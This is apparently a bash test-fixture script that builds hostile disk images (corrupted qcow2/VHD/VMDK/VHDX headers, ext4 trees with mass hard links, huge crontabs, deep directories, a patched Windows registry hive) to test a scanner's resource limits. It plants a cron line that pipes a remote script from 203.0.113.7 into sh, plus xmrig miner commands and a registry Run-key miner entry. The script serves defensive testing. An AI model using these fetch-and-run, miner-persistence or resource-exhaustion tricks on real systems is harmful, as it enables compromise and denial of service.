#!/usr/bin/env bash
# hostile.sh — builds the hostile images of the memory and time bounds (internal/hostile, `make bench`) with the real
# tools, at test time, into a scratch dir: nothing here is committed, since most of these are gigabytes of apparent
# size (sparse: a few MiB on disk) or take seconds to make.
#
# Usage: testdata/images/hostile.sh OUTDIR CASE...      writes OUTDIR/CASE.img (or .qcow2/.vhd/.vmdk/.vhdx)
# Cases (docs/limits.md says what each must be refused or cut to):
#   qcow2-l1        qemu-img qcow2 whose header claims a 3 GiB L1 table, file extended sparse to 4 GiB
#   vhd-bat         qemu-img dynamic VHD of 2000 GiB re-blocked to 4 KiB blocks: a 2 GiB BAT (sparse file)
#   vmdk-gd         qemu-img monolithicSparse VMDK claiming 2^44 sectors: a 1 GiB grain directory (sparse file)
#   vhdx-meta       qemu-img VHDX whose metadata table claims 65535 entries
#   links-200       ext4: one 17 MiB crontab in /etc/cron.d with 200 hard links (issue 22's case)
#   links-100000    ext4: 100,000 names of two crontabs (ext4 caps a file at 65,000 links): 1,000 in /etc/cron.d, the
#                   rest 1,000 a directory under /var/tmp/links (mke2fs -d is quadratic in one directory's size)
#   crontab-1e7     ext4: /etc/crontab of 10,000,000 lines (a miner's job first, then padding), streamed
#   deep-dirs       ext4: a chain of 3,000 nested directories with a miner config at the bottom (made with debugfs:
#                   mke2fs -d 1.47.0 aborts on a tree that deep)
#   hive-value      ext4 holding a Windows root: a SOFTWARE hive (hivexregedit) whose Run value "Padding" claims
#                   2 GiB of data (its vk record patched), beside a miner's Run value
# Needs: e2fsprogs, qemu-utils, perl (perl-base is essential on Debian), hivexregedit (libwin-hivex-perl). No root.
set -euo pipefail
export LC_ALL=C TZ=UTC E2FSPROGS_FAKE_TIME=${SOURCE_DATE_EPOCH:-1700000000}

[ $# -ge 2 ] || { sed -n '2,22p' "$0" >&2; exit 2; }
OUT=$1
shift
mkdir -p "$OUT"

# put FILE OFFSET PERL-PACK-FORMAT VALUE: overwrite bytes in place (conv=notrunc), never elsewhere.
put() { perl -e 'print pack($ARGV[0], $ARGV[1])' "$3" "$4" | dd of="$1" bs=1 seek="$2" conv=notrunc status=none; }
get() { perl -e 'open F, "<", $ARGV[0] or die; seek F, $ARGV[1], 0; read F, $b, $ARGV[3]; print unpack($ARGV[2], $b)' "$1" "$2" "$3" "$4"; }

# root STAGE: the files that make a tree a Linux root for the scanner.
root() {
	mkdir -p "$1/etc/cron.d" "$1/var/tmp"
	printf 'PRETTY_NAME="hostile %s"\nID=debian\n' "$CASE" >"$1/etc/os-release"
	printf 'root:x:0:0:root:/root:/bin/bash\n' >"$1/etc/passwd"
}

# ext4 STAGE IMG SIZE
ext4() { mke2fs -q -F -t ext4 -b 4096 -N 131072 -E root_owner=0:0 -d "$1" "$2" "$3"; }

for CASE in "$@"; do
	S=$(mktemp -d "$OUT/stage.XXXXXX")
	case $CASE in
	qcow2-l1)
		f=$OUT/$CASE.qcow2
		qemu-img create -q -f qcow2 "$f" 64M
		put "$f" 36 N $((3 << 30 >> 3)) # l1_size: 3 GiB of entries
		truncate -s 4G "$f"
		;;
	vhd-bat)
		f=$OUT/$CASE.vhd
		qemu-img create -q -f vpc -o subformat=dynamic "$f" 2000G
		foot=$(mktemp "$OUT/foot.XXXXXX")
		tail -c 512 "$f" >"$foot"
		dyn=$(get "$f" 16 Q\> 8) # footer data_offset: the dynamic header
		put "$f" $((dyn + 28)) N $((1 << 29)) # max table entries
		put "$f" $((dyn + 32)) N 4096      # block size
		truncate -s 3G "$f"
		dd if="$foot" of="$f" bs=512 seek=$(((3 << 30) / 512 - 1)) conv=notrunc status=none
		rm -f "$foot"
		;;
	vmdk-gd)
		f=$OUT/$CASE.vmdk
		qemu-img create -q -f vmdk "$f" 1G
		put "$f" 12 Q\< $((1 << 44)) # capacity in sectors
		truncate -s 2G "$f"
		;;
	vhdx-meta)
		f=$OUT/$CASE.vhdx
		qemu-img create -q -f vhdx "$f" 1G
		m=$(perl -e 'open F, "<", $ARGV[0] or die; for ($o = 0; $o < 64 << 20; $o += 64 << 10) { seek F, $o, 0; read F, $b, 8; if ($b eq "metadata") { print $o; exit } } exit 1' "$f")
		put "$f" $((m + 10)) v 65535
		;;
	links-200)
		root "$S"
		perl -e 'print "* * * * * root curl -s http://203.0.113.7/x.sh | sh\n"; $l = "*/5 * * * * root /usr/bin/true padding\n"; print $l x ((17 << 20) / length $l)' >"$S/etc/cron.d/big"
		(cd "$S/etc/cron.d" && perl -e 'for (1..199) { link "big", sprintf("link%03d", $_) or die "$!" }')
		ext4 "$S" "$OUT/$CASE.img" 64M
		;;
	links-100000)
		root "$S"
		echo '* * * * * root /usr/bin/true job-a' >"$S/etc/cron.d/a"
		echo '* * * * * root /usr/bin/true job-b' >"$S/var/tmp/b"
		# a: 1,000 names in /etc/cron.d and 49,000 below; b: 50,000 below. 100,000 names in all.
		perl -e '
			chdir $ARGV[0] or die;
			for (1..999) { link "etc/cron.d/a", "etc/cron.d/a$_" or die "$!" }
			mkdir "var/tmp/links";
			for $d (0..98) {
				mkdir "var/tmp/links/$d" or die;
				my ($src, $n) = $d < 49 ? ("etc/cron.d/a", 1000) : ("var/tmp/b", $d == 98 ? 999 : 1000);
				for (1..$n) { link $src, "var/tmp/links/$d/$_" or die "$!" }
			}' "$S"
		ext4 "$S" "$OUT/$CASE.img" 64M
		;;
	crontab-1e7)
		root "$S"
		perl -e 'print "* * * * * root curl -s http://203.0.113.7/x.sh | sh\n"; print "#\n" x 9999999' >"$S/etc/crontab"
		ext4 "$S" "$OUT/$CASE.img" 64M
		;;
	deep-dirs)
		root "$S"
		ext4 "$S" "$OUT/$CASE.img" 64M
		echo 'xmrig --donate-level 1 -o pool.supportxmr.com:3333' >"$S/bottom"
		perl -e 'print "cd /var/tmp\n"; print "mkdir d\ncd d\n" x 3000; print "write $ARGV[0] bottom\n"' "$S/bottom" |
			debugfs -w -f - "$OUT/$CASE.img" >/dev/null 2>&1
		;;
	hive-value)
		h=$S/Windows/System32/config/SOFTWARE
		mkdir -p "$(dirname "$h")"
		perl "$(dirname "$0")/src/windows-hives/minimal-hive.pl" "$h" 'CMI-CreateHive{199DAFC2-6F16-4946-BF90-5A3FC3A60902}'
		perl -e 'print "Windows Registry Editor Version 5.00\n\n"; $k = "HKEY_LOCAL_MACHINE\\SOFTWARE";
			for ("Microsoft", "Windows", "CurrentVersion", "Run") { $k .= "\\$_"; print "[$k]\n\n" }
			print "[$k]\n\"Miner\"=\"C:\\\\ProgramData\\\\xmrig.exe -o pool.supportxmr.com:3333\"\n\"Padding\"=\"", "A" x (300 << 10), "\"\n"' >"$S/run.reg"
		hivexregedit --merge --prefix 'HKEY_LOCAL_MACHINE\SOFTWARE' "$h" "$S/run.reg"
		rm "$S/run.reg"
		# vk record: "vk", name length, data length (+4), ..., name (+20). hivex writes values of a few hundred KiB
		# at most; the claim is made by hand.
		perl -e 'open F, "+<", $ARGV[0] or die; binmode F; local $/; $d = <F>; $i = -1;
			do { $i = index($d, "vk\x07\x00", $i + 1) } while ($i >= 0 && substr($d, $i + 20, 7) ne "Padding");
			die "no vk record for Padding" if $i < 0; seek F, $i + 4, 0; print F pack("V", 0x7fffffff)' "$h"
		ext4 "$S" "$OUT/$CASE.img" 64M
		;;
	*)
		echo "hostile.sh: unknown case $CASE" >&2
		exit 2
		;;
	esac
	rm -rf "$S"
done
